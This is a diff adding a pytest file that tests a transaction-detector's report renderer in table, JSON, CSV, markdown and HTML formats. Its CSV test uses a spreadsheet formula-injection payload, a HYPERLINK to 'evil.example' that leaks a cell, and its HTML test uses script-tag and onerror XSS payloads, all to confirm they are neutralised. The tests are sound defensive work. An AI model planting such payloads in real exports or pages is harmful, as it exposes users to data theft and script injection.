@@ -1,0 +1,114 @@
+"""render_scan in every format: golden files on a small fixed input, injection and escaping.
+
+Regenerate the golden files only on purpose: ``UPDATE_GOLDEN=1 pytest tests/test_report_scan.py``.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from detector.flags import flag_charges
+from detector.report import MONTHLY_FACTOR, SCAN_FORMATS, render_scan
+
+from tests.flagkit import Book
+
+GOLDEN = Path(__file__).parent / "golden" / "report"
+AS_OF = "2025-06-30"
+SUFFIX = {"table": "txt", "json": "json", "csv": "csv", "markdown": "md", "html": "html"}
+
+
+def scan_input(merchant: str = "Gym", description: str | None = None):
+    b = Book()
+    b.stream(b.series("2024-01-15", 18, [15.49] * 14 + [17.99] * 4, merchant="Netflix"))
+    dup = b.charge("2025-06-16", 17.99, "Netflix", description=description)
+    b.stream(b.series("2023-03-10", 3, 119.0, merchant="Adobe", months=12), frequency="annual")
+    weekly = b.series("2025-05-01", 8, 7.0, merchant=merchant, days=7)
+    b.stream(weekly, frequency="weekly")
+    b.stream(b.series("2024-01-01", 6, 9.99, merchant="Hulu"), status="ended")
+    flags = flag_charges(b.tx, b.stream_frame, as_of=AS_OF)
+    refunds = [{
+        "request_id": "r_1", "transaction_id": dup, "account_id": "acct1", "vendor": "Netflix",
+        "channel": "direct", "payment_method": "credit_card", "amount": 17.99,
+        "reason": "Duplicate charge", "eligible": True, "eligibility_reason": "reported within 30 days",
+        "deadline": "2025-07-16", "steps": ["Sign in", "Open Help"], "documents": ["statement line"],
+        "email": {"subject": "Refund", "body": "Please refund"}, "expected_by": "2025-07-09",
+        "status": "Candidate", "history": [],
+    }]
+    return b.stream_frame, flags, refunds
+
+
+@pytest.mark.parametrize("fmt", SCAN_FORMATS)
+def test_golden(fmt):
+    streams, flags, refunds = scan_input()
+    out = render_scan(streams, flags, refunds, fmt, as_of=AS_OF)
+    path = GOLDEN / f"scan.{SUFFIX[fmt]}"
+    if os.environ.get("UPDATE_GOLDEN"):
+        path.write_text(out + "\n", encoding="utf-8")
+    assert out + "\n" == path.read_text(encoding="utf-8")
+
+
+def test_json_is_what_score_reads():
+    streams, flags, refunds = scan_input()
+    doc = json.loads(render_scan(streams, flags, refunds, "json", as_of=AS_OF))
+    assert set(doc) == {"as_of", "streams", "flags", "refund_requests"} and doc["as_of"] == AS_OF
+    assert all(isinstance(s["transaction_ids"], list) for s in doc["streams"])
+    assert {(f["type"], f["transaction_id"]) for f in doc["flags"]} == set(zip(flags["type"], flags["transaction_id"]))
+    assert doc["refund_requests"][0]["steps"] == ["Sign in", "Open Help"]
+
+
+def test_table_fits_100_columns_and_totals_active_only():
+    streams, flags, refunds = scan_input()
+    out = render_scan(streams, flags, refunds, "table", as_of=AS_OF)
+    assert max(len(line) for line in out.splitlines()) <= 100
+    assert out.index("Suspicious charges") < out.index("Active subscriptions")
+    total = round(7.0 * MONTHLY_FACTOR["weekly"] + 17.99 + 119.0 / 12, 2)
+    assert f"Total" in out and f"{total:,.2f}" in out
+    assert "Hulu" not in out.split("Active subscriptions")[1]
+
+
+def test_flags_are_severity_ordered():
+    streams, flags, refunds = scan_input()
+    doc = json.loads(render_scan(streams, flags.iloc[::-1], refunds, "json", as_of=AS_OF))
+    ranks = [{"high": 0, "medium": 1, "low": 2}[f["severity"]] for f in doc["flags"]]
+    assert ranks == sorted(ranks)
+
+
+def test_csv_neutralises_formulas():
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    streams, flags, refunds = scan_input(merchant=evil, description="+SUM(A1:A9)")
+    refunds[0]["vendor"] = "@cmd"
+    out = render_scan(streams, flags, refunds, "csv", as_of=AS_OF)
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert {r["record"] for r in rows} == {"flag", "stream", "refund_request"}
+    cells = [v for r in rows for v in r.values()]
+    assert not any(c.startswith(("=", "+", "@")) for c in cells if c)
+    assert "'" + evil in cells and "'@cmd" in cells and "'+SUM(A1:A9)" in cells
+    # Numbers stay numbers.
+    assert all(float(r["amount"]) > 0 for r in rows if r["record"] == "flag")
+
+
+def test_html_and_markdown_escape_content():
+    streams, flags, refunds = scan_input(merchant="<script>alert('x')</script>",
+                                         description="<img src=x onerror=alert(1)>")
+    streams.loc[0, "merchant"] = "Netflix <b>"
+    html = render_scan(streams, flags, refunds, "html", as_of=AS_OF, title="<i>report</i>")
+    assert "<script>" not in html and "&lt;script&gt;" in html
+    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+    assert "<i>report</i>" not in html and "<b>" not in html
+    md = render_scan(streams, flags, refunds, "markdown", as_of=AS_OF)
+    assert "<script>" not in md and "&lt;script&gt;" in md and "&lt;img" in md
+
+
+def test_empty_scan_and_bad_format():
+    for fmt in SCAN_FORMATS:
+        out = render_scan(None, None, None, fmt, as_of=AS_OF)
+        assert out
+    assert json.loads(render_scan(None, None, [], "json", as_of=AS_OF))["flags"] == []
+    with pytest.raises(ValueError):
+        render_scan(None, None, None, "xml", as_of=AS_OF)
